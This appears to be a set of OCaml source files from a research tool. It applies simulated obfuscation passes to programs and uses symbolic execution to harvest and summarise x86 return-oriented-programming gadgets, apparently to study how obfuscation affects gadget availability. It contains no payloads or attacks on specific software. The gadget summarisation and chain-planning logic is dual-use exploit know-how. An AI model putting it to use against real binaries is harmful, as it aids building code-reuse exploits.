     (Sched, DESIGN.md §14) produce the same bytes as sequential ones. *)
  Opaque.reset_counter ();
  Bogus_cf.reset_counter ();
  Jit_sim.reset_counter ();
  Self_mod.reset_counter ();
  let rng = Gp_util.Rng.create cfg.seed in
  let prog = Gp_ir.Ir.clone_program prog in
  List.fold_left (apply_pass rng cfg.intensity) prog cfg.passes

(* The transform shape expected by Codegen.Pipeline.compile. *)
let transform cfg prog = apply cfg prog
