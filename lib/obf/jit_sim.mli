(** JIT dynamic, SIMULATED (paper §II-A(4); DESIGN.md §2).

    The statically-visible footprint of Tigress's JitDynamic: a template
    of machine-code bytes in the data section, a copy loop moving them
    into writable memory, and an indirect call into the fresh code.  All
    three are emitted and genuinely execute in the emulator; only the
    work done by the jitted stub is a placeholder. *)

val jit_area_base : int64
(** Where jitted stubs are copied (inside the emulator scratch region). *)

val reset_counter : unit -> unit
(** Zero this domain's fresh-stub counter; called by [Obf.apply]
    (see [Opaque.reset_counter]). *)

val run : ?prob:float -> Gp_util.Rng.t -> Gp_ir.Ir.program -> Gp_ir.Ir.program
