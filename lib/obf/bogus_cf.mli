(** Bogus control flow (paper §II-A(2), Obfuscator-LLVM -bcf): guard each
    chosen block with an opaque-true predicate whose false branch leads
    to junk code.  The junk never executes but is present in the binary —
    decoded by every gadget-harvesting tool. *)

val reset_counter : unit -> unit
(** Zero this domain's fresh-junk-global counter; called by [Obf.apply]
    (see [Opaque.reset_counter]). *)

val run : ?prob:float -> Gp_util.Rng.t -> Gp_ir.Ir.program -> Gp_ir.Ir.program
(** Guard each block with probability [prob] (default 0.4). *)
