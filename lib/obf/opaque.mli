(** Opaque predicates: conditions that always evaluate true but whose
    truth is not syntactically obvious (paper §II-A(2)).  Each reads
    "entropy" from a dedicated global so constant folding cannot collapse
    the branch.  Identities hold mod 2{^64}: x(x+1) is even;
    (x&1)((x+1)&1) = 0; 7y²-1 is never a square mod 8. *)

val reset_counter : unit -> unit
(** Zero this domain's fresh-name counter.  [Obf.apply] calls it so
    each compile's generated globals are numbered from 0 regardless of
    earlier compiles on the same domain — the pipeline determinism
    contract (DESIGN.md §14) needs compiled bytes to be a pure
    function of (source, config). *)

val fresh_opaque_global : Gp_util.Rng.t -> Gp_ir.Ir.program -> string
(** Add one random 8-byte "entropy" global; returns its name. *)

val always_true :
  Gp_util.Rng.t -> Gp_ir.Ir.program -> Gp_ir.Ir.func ->
  Gp_ir.Ir.instr list * Gp_ir.Ir.temp
(** Instructions computing an always-nonzero value into the returned
    temp, choosing among the predicate shapes at random. *)
