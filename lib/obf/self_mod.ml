(* Self-modification, SIMULATED (paper §II-A(5); see DESIGN.md §2).

   Tigress's self-modification decrypts/patches code at run time.  What
   every static gadget tool sees — and what this study measures — is the
   injected *decoder scaffolding*: a loop that transforms a memory region
   with a key, followed by an indirect transfer into the "revealed" code.
   We emit exactly that scaffolding (the XOR loop really runs over a data
   region, and the transfer really is an indirect jump through a jump
   table), without flipping actual instruction bytes, so the result stays
   semantics-preserving by construction. *)

open Gp_ir

(* Domain-local and reset per [Obf.apply]; see Opaque.reset_counter. *)
let counter = Domain.DLS.new_key (fun () -> ref 0)
let reset_counter () = Domain.DLS.get counter := 0

let instrument_func rng (prog : Ir.program) (f : Ir.func) =
  match f.Ir.f_blocks with
  | [] -> ()
  | old_entry :: _ ->
    let r = Domain.DLS.get counter in
    let n = !r in
    incr r;
    (* the "encrypted region": 32 random words of data *)
    let region = Printf.sprintf "sm$%d" n in
    let words = 32 in
    let bytes = Bytes.create (8 * words) in
    for i = 0 to words - 1 do
      Bytes.set_int64_le bytes (8 * i) (Gp_util.Rng.next_int64 rng)
    done;
    Ir.add_data prog region bytes;
    let key = Gp_util.Rng.next_int64 rng in
    (* move the original entry body aside, keeping its label for callers *)
    let l_moved = Ir.fresh_label f "sm_orig" in
    let moved =
      { Ir.b_label = l_moved;
        b_instrs = old_entry.Ir.b_instrs;
        b_term = old_entry.Ir.b_term }
    in
    let l_loop = Ir.fresh_label f "sm_loop" in
    let l_body = Ir.fresh_label f "sm_body" in
    let l_done = Ir.fresh_label f "sm_done" in
    let i = Ir.fresh_temp f in
    let cond = Ir.fresh_temp f in
    let base = Ir.fresh_temp f in
    let off = Ir.fresh_temp f in
    let addr = Ir.fresh_temp f in
    let v = Ir.fresh_temp f in
    let v' = Ir.fresh_temp f in
    old_entry.Ir.b_instrs <- [ Ir.Mov (i, Ir.I 0L) ];
    old_entry.Ir.b_term <- Ir.Jmp l_loop;
    let loop_blk =
      { Ir.b_label = l_loop;
        b_instrs = [ Ir.Cmp (Ir.Lt, cond, Ir.T i, Ir.I (Int64.of_int words)) ];
        b_term = Ir.Br (Ir.T cond, l_body, l_done) }
    in
    let body_blk =
      { Ir.b_label = l_body;
        b_instrs =
          [ Ir.Mov (base, Ir.G region);
            Ir.Bin (Ir.Mul, off, Ir.T i, Ir.I 8L);
            Ir.Bin (Ir.Add, addr, Ir.T base, Ir.T off);
            Ir.Load (v, Ir.T addr, 0);
            Ir.Bin (Ir.Xor, v', Ir.T v, Ir.I key);
            Ir.Store (Ir.T addr, 0, Ir.T v');
            Ir.Bin (Ir.Add, i, Ir.T i, Ir.I 1L) ];
        b_term = Ir.Jmp l_loop }
    in
    (* "reveal" transfer: an indirect jump through a one-entry jump table *)
    let zero = Ir.fresh_temp f in
    let done_blk =
      { Ir.b_label = l_done;
        b_instrs = [ Ir.Mov (zero, Ir.I 0L) ];
        b_term = Ir.Switch (Ir.T zero, [| l_moved |]) }
    in
    f.Ir.f_blocks <- f.Ir.f_blocks @ [ loop_blk; body_blk; done_blk; moved ]

let run ?(prob = 1.0) rng (prog : Ir.program) =
  List.iter
    (fun f -> if Gp_util.Rng.flip rng prob then instrument_func rng prog f)
    prog.Ir.p_funcs;
  prog
