(* Bogus control flow (paper §II-A(2), Obfuscator-LLVM -bcf): guard each
   chosen block with an opaque-true predicate whose false branch leads to
   junk code.  The junk never executes but is present in the binary — it
   is decoded by every gadget-harvesting tool. *)

open Gp_ir

(* Domain-local and reset per [Obf.apply]; see Opaque.reset_counter. *)
let junk_counter = Domain.DLS.new_key (fun () -> ref 0)
let reset_counter () = Domain.DLS.get junk_counter := 0

let fresh_junk_global (prog : Ir.program) =
  let r = Domain.DLS.get junk_counter in
  let n = !r in
  incr r;
  let name = Printf.sprintf "junk$%d" n in
  Ir.add_data prog name (Bytes.make 8 '\000');
  name

(* A few plausible-looking but pointless instructions. *)
let junk_instrs rng prog (f : Ir.func) =
  let g = fresh_junk_global prog in
  let t1 = Ir.fresh_temp f in
  let t2 = Ir.fresh_temp f in
  let t3 = Ir.fresh_temp f in
  let k = Gp_util.Rng.next_int64 rng in
  [ Ir.Load (t1, Ir.G g, 0);
    Ir.Bin (Ir.Mul, t2, Ir.T t1, Ir.I k);
    Ir.Bin (Ir.Xor, t3, Ir.T t2, Ir.I (Int64.lognot k));
    Ir.Store (Ir.G g, 0, Ir.T t3) ]

(* Transform block B with incoming label L into:
     L:      <opaque-true computation>; br c, L.real, L.junk
     L.real: <original body and terminator>
     L.junk: <junk>; jmp L.real
   All edges into L are preserved because L keeps its label. *)
let guard_block rng prog (f : Ir.func) (blk : Ir.block) =
  let l_real = Ir.fresh_label f "bcf_real" in
  let l_junk = Ir.fresh_label f "bcf_junk" in
  let real =
    { Ir.b_label = l_real; b_instrs = blk.Ir.b_instrs; b_term = blk.Ir.b_term }
  in
  let junk =
    { Ir.b_label = l_junk;
      b_instrs = junk_instrs rng prog f;
      b_term = Ir.Jmp l_real }
  in
  let opaque_instrs, cond = Opaque.always_true rng prog f in
  blk.Ir.b_instrs <- opaque_instrs;
  blk.Ir.b_term <- Ir.Br (Ir.T cond, l_real, l_junk);
  f.Ir.f_blocks <- f.Ir.f_blocks @ [ real; junk ]

let run ?(prob = 0.4) rng (prog : Ir.program) =
  List.iter
    (fun (f : Ir.func) ->
      (* snapshot: we append new blocks while iterating *)
      let original = f.Ir.f_blocks in
      List.iter
        (fun blk -> if Gp_util.Rng.flip rng prob then guard_block rng prog f blk)
        original)
    prog.Ir.p_funcs;
  prog
