(** Self-modification, SIMULATED (paper §II-A(5); DESIGN.md §2).

    What every static gadget tool sees — and what this study measures —
    is the injected decoder scaffolding: a key-driven transformation loop
    over a memory region, followed by an indirect transfer into the
    "revealed" code.  We emit exactly that scaffolding (the XOR loop
    really runs; the transfer really is a one-entry jump table) without
    flipping actual instruction bytes, keeping the pass
    semantics-preserving by construction. *)

val reset_counter : unit -> unit
(** Zero this domain's fresh-region counter; called by [Obf.apply]
    (see [Opaque.reset_counter]). *)

val run : ?prob:float -> Gp_util.Rng.t -> Gp_ir.Ir.program -> Gp_ir.Ir.program
