(** Symbolic execution of instruction runs -> gadget summaries.

    Starting from a fully symbolic state at an arbitrary code address,
    execution proceeds until a controllable transfer (ret / indirect jump
    / indirect call / syscall).  Conditional jumps FORK the state, each
    branch assuming the condition or its negation as a pre-condition —
    the paper's distinctive handling of conditional-jump gadgets (§IV-B,
    Fig. 4).  Direct jumps and calls are followed and MERGED into the
    same gadget.  A mid-run syscall both ends a summary (a goal
    candidate) and continues with an uncontrollable result register. *)

open Gp_smt

type jump =
  | Jret of Term.t           (** ret: target is the popped stack value *)
  | Jind of Term.t           (** jmp/call through register or memory *)
  | Jfall of int64           (** ends at a syscall; fall-through address *)

type summary = {
  s_addr : int64;                      (** where decoding started *)
  s_insns : Gp_x86.Insn.t list;        (** in execution order *)
  s_state : State.t;                   (** final symbolic state *)
  s_jump : jump;
  s_has_cond : bool;                   (** took a Jcc assumption *)
  s_has_merge : bool;                  (** crossed a direct jmp/call *)
  s_syscall : bool;                    (** ends at a syscall *)
}

val cond_formulas : State.flag_src -> Gp_x86.Insn.cond -> Formula.t list option
(** Conjunction equivalent to the condition holding under the recorded
    flag source, or [None] when inexpressible (that fork is abandoned —
    a soundness-preserving refusal). *)

type config = {
  max_insns : int;       (** per path *)
  max_forks : int;       (** Jcc assumptions per path *)
  max_merges : int;      (** direct jmp/call follow-throughs per path *)
}

val default_config : config

val summarize : ?config:config -> Gp_util.Image.t -> int64 -> summary list
(** All path summaries from the address; [[]] when nothing decodes into a
    usable gadget. *)

val summarize_r :
  ?config:config ->
  ?decode:(int -> (Gp_x86.Insn.t * int) option) ->
  Gp_util.Image.t ->
  int64 ->
  summary list * string option
(** Like {!summarize}, but also reports whether the executor refused a
    path ([State.Unsupported] detail).  Partial summaries gathered before
    the refusal are kept; the refusal lets callers quarantine and count
    the start offset instead of silently dropping it.

    [decode] overrides the per-position decoder (default: decode the
    image's code bytes directly); the harvest passes a
    [Gp_x86.Decode.memo] so overlapping starts share suffix decodings.
    The override must answer exactly as the default would. *)

(** {1 Summary serialization & relocation}

    Persistent-store encoding (DESIGN.md §11): hand-rolled over
    [Gp_util.Store.Bin] and {!Term.Ser}, so the bytes are a
    deterministic function of structure.  Summaries serialize
    BASE-RELATIVE — [s_addr] becomes 0, a [Jfall] target becomes a
    displacement — because deterministic variable naming already makes
    every term position-independent; {!rebase} relocates a summary to
    any address.  Readers raise [Gp_util.Store.Bin.Truncated] on
    malformed bytes (unreachable after the store's checksums). *)

val put_insn : Buffer.t -> Gp_x86.Insn.t -> unit
(** Stable instruction bytes — also the content key's alphabet
    ({!Gp_core.Gadget.content_key} records decoded instructions, so two
    encodings of the same instruction share a key). *)

val get_insn : string -> int ref -> Gp_x86.Insn.t

val write_summaries : summary list * string option -> string
(** Serialize one start's full result (summaries + refusal), as cached
    by the incremental layer.  All summaries must share one [s_addr]
    (they do: {!summarize_r} stamps every path with the start). *)

val read_summaries : string -> summary list * string option
(** Inverse of {!write_summaries}; summaries come back at [s_addr = 0]
    with terms re-interned — {!rebase} them to the consulting start. *)

val rebase : addr:int64 -> summary -> summary
(** Relocate to [addr]: rewrites [s_addr] and a [Jfall] target (the only
    position-dependent fields); shares everything else. *)

(** {1 Suffix-compositional summarization (DESIGN.md §16)}

    Sliding-window harvests summarize every byte position, so the run at
    [p] shares all but its first instruction with the run at [p + len].
    {!summarize_cr} summarizes each position's suffix ONCE, at the
    harvest's full budget (the CANONICAL entry), and {!extend} prepends
    one instruction by substituting its post-state for the tail's entry
    variables.  Canonical entries answer every smaller budget exactly:
    the summarizer's budget gates are monotone prefix checks, so a path
    is explored under a residual budget iff its recorded demand triple
    is pointwise within it — extending shifts each demand by the head's
    contribution and drops summaries pushed over the cap.  Guarded
    cases fall back to an instrumented monolithic run, keeping results
    bit-identical to {!summarize_r} everywhere. *)

val compose_enabled : unit -> bool

val set_compose_enabled : bool -> unit
(** [false] (the [--no-compose] ablation) makes {!summarize_cr} delegate
    to {!summarize_r} unconditionally. *)

type touch =
  | Tunknown
  | Tbig
  | Tok of Term.Vset.t * bool * bool
      (** lazily-computed variable footprint of a suffix (entry
          registers mentioned, any [stk_*], any [mem*]/[sysret*]) —
          {!extend} skips the substitution entirely when the head
          cannot touch it.  [Tbig]: the footprint scan exceeded its
          node budget; always take the guarded slow path. *)

type suffix = {
  x_res : (summary * (int * int * int)) list;
      (** in {!summarize_r}'s emission order, each summary with its
          path's budget demand (insns, forks, merges): the summary is
          emitted under a residual budget iff its demand fits pointwise.
          The merge demand is the max gate demand over direct-jump
          sites, not the final merge counter — taken Jcc arms bump the
          counter without a gate. *)
  x_refused : string option;
  x_entry_cond : bool;      (** reached a live Jcc under entry flags —
                                composition under a flag-setting head
                                must fall back *)
  x_cap : int * int * int;  (** the full (insns, forks, merges) budget
                                this canonical entry was explored at *)
  mutable x_touch : touch;  (** footprint cache; never serialized *)
}

type memo
(** Per-chunk suffix cache with hit/miss/substitution counters.  Not
    thread-safe: create one per harvest worker. *)

val memo_create : unit -> memo

val memo_counts : memo -> int * int * int * int
(** (memo hits, store hits, misses, substitutions). *)

val extend :
  addr:int64 ->
  insn:Gp_x86.Insn.t ->
  len:int ->
  cap:int * int * int ->
  tail:suffix ->
  suffix option
(** Prepend one decoded instruction onto a suffix summary by term
    substitution — the head's post-state replaces the tail's entry
    variables, forks and merges handled as in {!summarize_r}.  Demands
    shift by the head's contribution (one instruction, plus one merge
    gate for a direct-jump head); summaries pushed past [cap] — the full
    budget both entries are canonical at — are dropped, exactly the
    paths the monolithic run would have gated.  [None] when a soundness
    guard refuses (symbolic rsp, non-linear image, aliasing across the
    seam, flag-sensitive tail under a flag-setting head, or a head that
    ends/forks by itself); the caller then falls back to the monolithic
    run. *)

val summarize_cr :
  ?config:config ->
  ?decode:(int -> (Gp_x86.Insn.t * int) option) ->
  ?memo:memo ->
  ?store_find:(pos:int -> cap:int * int * int -> suffix option) ->
  ?store_add:(pos:int -> cap:int * int * int -> suffix -> unit) ->
  Gp_util.Image.t ->
  int64 ->
  summary list * string option
(** Compositional drop-in for {!summarize_r}: bit-identical summaries
    and refusal at every position and budget (test/test_compose.ml
    checks the equivalence differentially).  Every recursion step
    computes the canonical full-budget entry, so each position is
    summarized and extended at most once per harvest.  [memo] shares
    the canonical entries across the starts of one chunk — one config
    per memo; [store_find]/[store_add] bridge to the persistent suffix
    store and are only consulted at the canonical cap (the caller owns
    content-key hashing).  When composition is disabled
    ({!set_compose_enabled}), delegates to {!summarize_r}. *)

val write_suffix : suffix -> string
(** Serialize a suffix entry base-relative, like {!write_summaries}. *)

val read_suffix : addr:int64 -> string -> suffix
(** Inverse of {!write_suffix}, relocating the summaries to [addr]. *)
