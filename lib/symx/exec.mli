(** Symbolic execution of instruction runs -> gadget summaries.

    Starting from a fully symbolic state at an arbitrary code address,
    execution proceeds until a controllable transfer (ret / indirect jump
    / indirect call / syscall).  Conditional jumps FORK the state, each
    branch assuming the condition or its negation as a pre-condition —
    the paper's distinctive handling of conditional-jump gadgets (§IV-B,
    Fig. 4).  Direct jumps and calls are followed and MERGED into the
    same gadget.  A mid-run syscall both ends a summary (a goal
    candidate) and continues with an uncontrollable result register. *)

open Gp_smt

type jump =
  | Jret of Term.t           (** ret: target is the popped stack value *)
  | Jind of Term.t           (** jmp/call through register or memory *)
  | Jfall of int64           (** ends at a syscall; fall-through address *)

type summary = {
  s_addr : int64;                      (** where decoding started *)
  s_insns : Gp_x86.Insn.t list;        (** in execution order *)
  s_state : State.t;                   (** final symbolic state *)
  s_jump : jump;
  s_has_cond : bool;                   (** took a Jcc assumption *)
  s_has_merge : bool;                  (** crossed a direct jmp/call *)
  s_syscall : bool;                    (** ends at a syscall *)
}

val cond_formulas : State.flag_src -> Gp_x86.Insn.cond -> Formula.t list option
(** Conjunction equivalent to the condition holding under the recorded
    flag source, or [None] when inexpressible (that fork is abandoned —
    a soundness-preserving refusal). *)

type config = {
  max_insns : int;       (** per path *)
  max_forks : int;       (** Jcc assumptions per path *)
  max_merges : int;      (** direct jmp/call follow-throughs per path *)
}

val default_config : config

val summarize : ?config:config -> Gp_util.Image.t -> int64 -> summary list
(** All path summaries from the address; [[]] when nothing decodes into a
    usable gadget. *)

val summarize_r :
  ?config:config ->
  ?decode:(int -> (Gp_x86.Insn.t * int) option) ->
  Gp_util.Image.t ->
  int64 ->
  summary list * string option
(** Like {!summarize}, but also reports whether the executor refused a
    path ([State.Unsupported] detail).  Partial summaries gathered before
    the refusal are kept; the refusal lets callers quarantine and count
    the start offset instead of silently dropping it.

    [decode] overrides the per-position decoder (default: decode the
    image's code bytes directly); the harvest passes a
    [Gp_x86.Decode.memo] so overlapping starts share suffix decodings.
    The override must answer exactly as the default would. *)

(** {1 Summary serialization & relocation}

    Persistent-store encoding (DESIGN.md §11): hand-rolled over
    [Gp_util.Store.Bin] and {!Term.Ser}, so the bytes are a
    deterministic function of structure.  Summaries serialize
    BASE-RELATIVE — [s_addr] becomes 0, a [Jfall] target becomes a
    displacement — because deterministic variable naming already makes
    every term position-independent; {!rebase} relocates a summary to
    any address.  Readers raise [Gp_util.Store.Bin.Truncated] on
    malformed bytes (unreachable after the store's checksums). *)

val put_insn : Buffer.t -> Gp_x86.Insn.t -> unit
(** Stable instruction bytes — also the content key's alphabet
    ({!Gp_core.Gadget.content_key} records decoded instructions, so two
    encodings of the same instruction share a key). *)

val get_insn : string -> int ref -> Gp_x86.Insn.t

val write_summaries : summary list * string option -> string
(** Serialize one start's full result (summaries + refusal), as cached
    by the incremental layer.  All summaries must share one [s_addr]
    (they do: {!summarize_r} stamps every path with the start). *)

val read_summaries : string -> summary list * string option
(** Inverse of {!write_summaries}; summaries come back at [s_addr = 0]
    with terms re-interned — {!rebase} them to the consulting start. *)

val rebase : addr:int64 -> summary -> summary
(** Relocate to [addr]: rewrites [s_addr] and a [Jfall] target (the only
    position-dependent fields); shares everything else. *)
