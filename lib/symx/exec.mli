(** Symbolic execution of instruction runs -> gadget summaries.

    Starting from a fully symbolic state at an arbitrary code address,
    execution proceeds until a controllable transfer (ret / indirect jump
    / indirect call / syscall).  Conditional jumps FORK the state, each
    branch assuming the condition or its negation as a pre-condition —
    the paper's distinctive handling of conditional-jump gadgets (§IV-B,
    Fig. 4).  Direct jumps and calls are followed and MERGED into the
    same gadget.  A mid-run syscall both ends a summary (a goal
    candidate) and continues with an uncontrollable result register. *)

open Gp_smt

type jump =
  | Jret of Term.t           (** ret: target is the popped stack value *)
  | Jind of Term.t           (** jmp/call through register or memory *)
  | Jfall of int64           (** ends at a syscall; fall-through address *)

type summary = {
  s_addr : int64;                      (** where decoding started *)
  s_insns : Gp_x86.Insn.t list;        (** in execution order *)
  s_state : State.t;                   (** final symbolic state *)
  s_jump : jump;
  s_has_cond : bool;                   (** took a Jcc assumption *)
  s_has_merge : bool;                  (** crossed a direct jmp/call *)
  s_syscall : bool;                    (** ends at a syscall *)
}

val cond_formulas : State.flag_src -> Gp_x86.Insn.cond -> Formula.t list option
(** Conjunction equivalent to the condition holding under the recorded
    flag source, or [None] when inexpressible (that fork is abandoned —
    a soundness-preserving refusal). *)

type config = {
  max_insns : int;       (** per path *)
  max_forks : int;       (** Jcc assumptions per path *)
  max_merges : int;      (** direct jmp/call follow-throughs per path *)
}

val default_config : config

val summarize : ?config:config -> Gp_util.Image.t -> int64 -> summary list
(** All path summaries from the address; [[]] when nothing decodes into a
    usable gadget. *)

val summarize_r :
  ?config:config -> Gp_util.Image.t -> int64 -> summary list * string option
(** Like {!summarize}, but also reports whether the executor refused a
    path ([State.Unsupported] detail).  Partial summaries gathered before
    the refusal are kept; the refusal lets callers quarantine and count
    the start offset instead of silently dropping it. *)
