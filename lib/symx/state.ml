(* Symbolic machine state for gadget summarization.

   Naming is deterministic and canonical (paper Table II / §IV-B):
   - "rax_0", "rbx_0", ... are the register values at gadget entry;
   - "stk_<o>" (or "stk_m<o>" for negative o) is the 8-byte stack slot at
     [rsp0 + o] — the attacker-controlled payload area;
   - "mem<n>" are values read through non-stack pointers, which also add
     a Readable POINTER pre-condition.

   Because two gadgets with the same behaviour produce structurally equal
   terms under this scheme, semantic comparison (subsumption) reduces to
   term comparison plus solver entailment. *)

open Gp_x86
open Gp_smt

module Imap = Map.Make (Int)

(* What the last flag-setting instruction was, for Jcc conditions. *)
type flag_src =
  | Fsub of Term.t * Term.t      (* cmp/sub a, b *)
  | Flogic of Term.t             (* and/or/xor/test/shift result *)
  | Farith of Term.t             (* add/inc/dec/neg result: SF/ZF exact, CF/OF approximated *)
  | Funknown

type t = {
  regs : Term.t array;                   (* 16, indexed by Reg.number *)
  stack : Term.t Imap.t;                 (* offset from rsp0 -> value *)
  stack_writes : (int * Term.t) list;    (* in write order, latest last *)
  path : Formula.t list;                 (* accumulated pre-conditions *)
  flags : flag_src;
  fresh : int;                           (* counter for mem reads *)
  insns : Insn.t list;                   (* executed instructions, reversed *)
  syscalls : (Reg.t * Term.t) list list; (* register state at each syscall *)
  consumed : int list;                   (* stack offsets read before write *)
  ptr_writes : (Term.t * Term.t) list;   (* non-stack writes: (addr, value) *)
  mem_reads : (string * Term.t * bool) list;
    (* mem var name, address term, RELIABLE flag: an unreliable read may
       alias an earlier write of this gadget, so its value cannot be
       treated as attacker-controlled *)
  alias_hazard : bool;                   (* some read was unreliable *)
  hazard_cmps : (Term.t * Term.t) list;
    (* (read addr, write addr) pairs whose aliasing was undecidable —
       Exec.extend rechecks them after substitution: a pair the head
       makes decidable would have forwarded (or skipped) monolithically
       where this run allocated a fresh read *)
}

let reg_var r = Term.var (Reg.name r ^ "_0")

let slot_var off =
  if off >= 0 then Term.var (Printf.sprintf "stk_%d" off)
  else Term.var (Printf.sprintf "stk_m%d" (-off))

(* Offset encoded in a slot variable name, if it is one. *)
let slot_of_var name =
  if String.length name > 4 && String.sub name 0 4 = "stk_" then begin
    let rest = String.sub name 4 (String.length name - 4) in
    if String.length rest > 1 && rest.[0] = 'm' then
      int_of_string_opt (String.sub rest 1 (String.length rest - 1))
      |> Option.map (fun n -> -n)
    else int_of_string_opt rest
  end
  else None

(* no field is mutable and [set_reg] copies the register array, so one
   shared initial state serves every run (building the 16 entry
   variables is measurable at harvest scale) *)
let initial_state =
  { regs = Array.init 16 (fun i -> reg_var (Reg.of_number i));
    stack = Imap.empty;
    stack_writes = [];
    path = [];
    flags = Funknown;
    fresh = 0;
    insns = [];
    syscalls = [];
    consumed = [];
    ptr_writes = [];
    mem_reads = [];
    alias_hazard = false;
    hazard_cmps = [] }

let initial () = initial_state

let reg t r = t.regs.(Reg.number r)

let set_reg t r v =
  let regs = Array.copy t.regs in
  regs.(Reg.number r) <- Term.simplify v;
  { t with regs }

let assume t f = { t with path = Formula.simplify f :: t.path }

(* The current rsp as a concrete offset from rsp0, when it is one. *)
let rsp_offset t =
  match Term.linearize (reg t Reg.RSP) with
  | Some { Term.lin_const = c; lin_terms = [ (v, 1L) ] } when v = "rsp_0" ->
    Some (Int64.to_int c)
  | _ -> None

(* Classify an address term: a stack slot offset, or an arbitrary pointer. *)
type addr_class = Stack of int | Pointer of Term.t

let classify_addr addr =
  match Term.linearize addr with
  | Some { Term.lin_const = c; lin_terms = [ (v, 1L) ] } when v = "rsp_0" ->
    Stack (Int64.to_int c)
  | _ -> Pointer addr

exception Unsupported of string

(* Read 8 bytes at a symbolic address. *)
let read_mem t addr =
  match classify_addr addr with
  | Stack off -> (
    match Imap.find_opt off t.stack with
    | Some v -> (t, v)
    | None ->
      let v = slot_var off in
      ({ t with stack = Imap.add off v t.stack; consumed = off :: t.consumed }, v))
  | Pointer a -> (
    (* store-forwarding over pointer memory: scan earlier pointer writes,
       newest first.  Two accesses at a CONSTANT address distance >= 8 are
       disjoint (all code uses 8-byte cells); a non-constant distance
       means we cannot decide aliasing — the summary is marked hazardous
       and dropped (validation-first: better to lose a gadget than emit a
       wrong chain).  Stack-class and pointer-class accesses are layout-
       disjoint by the separation argument in Layout. *)
    let rec forward = function
      | [] -> `Fresh
      | (a', v') :: older -> (
        match Term.linearize (Term.sub a a') with
        | Some { Term.lin_const = 0L; lin_terms = [] } -> `Hit v'
        | Some { Term.lin_const = c; lin_terms = [] }
          when Int64.abs c >= 8L -> forward older
        | _ -> `Hazard a')
    in
    match forward (List.rev t.ptr_writes) with
    | `Hit v -> (t, v)
    | `Hazard a' ->
      let name = Printf.sprintf "mem%d" t.fresh in
      let v = Term.var name in
      let t =
        { t with
          fresh = t.fresh + 1;
          mem_reads = (name, a, false) :: t.mem_reads;
          alias_hazard = true;
          hazard_cmps = (a, a') :: t.hazard_cmps }
      in
      (assume t (Formula.Readable a), v)
    | `Fresh ->
      let name = Printf.sprintf "mem%d" t.fresh in
      let v = Term.var name in
      let t =
        { t with fresh = t.fresh + 1; mem_reads = (name, a, true) :: t.mem_reads }
      in
      (assume t (Formula.Readable a), v))

let write_mem t addr value =
  let value = Term.simplify value in
  match classify_addr addr with
  | Stack off ->
    { t with
      stack = Imap.add off value t.stack;
      stack_writes = t.stack_writes @ [ (off, value) ] }
  | Pointer a ->
    (* non-stack write: requires a writable pointer; tracked so the
       planner can use this gadget for write-what-where *)
    let t = { t with ptr_writes = t.ptr_writes @ [ (a, value) ] } in
    assume t (Formula.Writable a)

(* The set of stack offsets whose initial content was READ (i.e. the
   payload cells this gadget consumes). *)
let consumed_slots t = List.sort_uniq compare t.consumed

(* ---- suffix composition support (Exec.extend, DESIGN.md §16) ---- *)

(* Image of each tail-entry variable under the post-state [head] of the
   instruction being prepended.  [rsp_off] is head's rsp as a concrete
   offset from rsp0 (composition requires it).  Returns [None] for
   variables that are their own image ("retaddr", anything unknown). *)
let compose_subst ~(head : t) ~rsp_off:(c : int) :
    Term.Vset.t * (string -> Term.t option) =
  (* identity images answer [None] so the substitution can keep the
     enclosing term physically unchanged (Term.subst_cached's sharing
     shortcut) — a one-instruction head leaves most entry variables at
     themselves, and rebuilding their terms dominated extend's cost *)
  let regs = Hashtbl.create 16 in
  let dom = ref Term.Vset.empty in
  Array.iteri
    (fun i v ->
      let name = Reg.name (Reg.of_number i) ^ "_0" in
      match v with
      | Term.Var n when n = name -> ()
      | _ ->
        Hashtbl.replace regs name v;
        dom := Term.Vset.add name !dom)
    head.regs;
  let num_after prefix name =
    let pl = String.length prefix in
    if String.length name > pl && String.sub name 0 pl = prefix then
      int_of_string_opt (String.sub name pl (String.length name - pl))
    else None
  in
  ( !dom,
    fun name ->
    match Hashtbl.find_opt regs name with
    | Some v -> Some v
    | None -> (
      match slot_of_var name with
      | Some d -> (
        (* the tail's payload slot d lives at rsp0 + c + d absolutely;
           read through head's slot map exactly like read_mem would *)
        match Imap.find_opt (c + d) head.stack with
        | Some v -> Some v
        | None -> if c = 0 then None else Some (slot_var (c + d)))
      | None ->
        if head.fresh = 0 then None
        else (
          match num_after "mem" name with
          | Some k -> Some (Term.var (Printf.sprintf "mem%d" (k + head.fresh)))
          | None -> (
            match num_after "sysret" name with
            | Some k ->
              Some (Term.var (Printf.sprintf "sysret%d" (k + head.fresh)))
            | None -> None))) )

(* Prepend [head] (the post-state of one instruction run from the initial
   state) onto [tail] (a final state expressed in tail-entry variables),
   rewriting tail terms with [sigma] — which must be the memoized
   substitution built over {!compose_subst} [~head ~rsp_off].  Produces
   the state the monolithic executor would have reached; the caller
   (Exec.extend) guards the cases where that equivalence could fail. *)
let graft ~(head : t) ~rsp_off:(c : int) ~(sigma : Term.t -> Term.t)
    (tail : t) : t =
  (* formulas untouched by [sigma] are already simplified (assume
     simplifies on entry) — skip the re-canonicalization *)
  let sf f =
    let f' = Formula.map_terms sigma f in
    if f' == f then f else Formula.simplify f'
  in
  let shift_name name =
    (* tail-fresh memory reads renumber past head's reads *)
    if head.fresh = 0 then name
    else if String.length name > 3 && String.sub name 0 3 = "mem" then
      match int_of_string_opt (String.sub name 3 (String.length name - 3)) with
      | Some k -> Printf.sprintf "mem%d" (k + head.fresh)
      | None -> name
    else name
  in
  { regs = Array.map sigma tail.regs;
    stack =
      Imap.fold (fun d v m -> Imap.add (c + d) (sigma v) m) tail.stack
        head.stack;
    stack_writes =
      head.stack_writes @ List.map (fun (d, v) -> (c + d, sigma v)) tail.stack_writes;
    path = List.map sf tail.path @ head.path;
    flags =
      (match tail.flags with
      | Funknown -> head.flags
      | Fsub (a, b) -> Fsub (sigma a, sigma b)
      | Flogic r -> Flogic (sigma r)
      | Farith r -> Farith (sigma r));
    fresh = head.fresh + tail.fresh;
    insns = tail.insns @ head.insns;
    syscalls =
      List.map (List.map (fun (r, v) -> (r, sigma v))) tail.syscalls
      @ head.syscalls;
    consumed =
      (* a tail read of slot d consumed the payload only if head had not
         already bound rsp0 + c + d *)
      List.filter_map
        (fun d -> if Imap.mem (c + d) head.stack then None else Some (c + d))
        tail.consumed
      @ head.consumed;
    ptr_writes =
      head.ptr_writes @ List.map (fun (a, v) -> (sigma a, sigma v)) tail.ptr_writes;
    mem_reads =
      List.map (fun (n, a, rel) -> (shift_name n, sigma a, rel)) tail.mem_reads
      @ head.mem_reads;
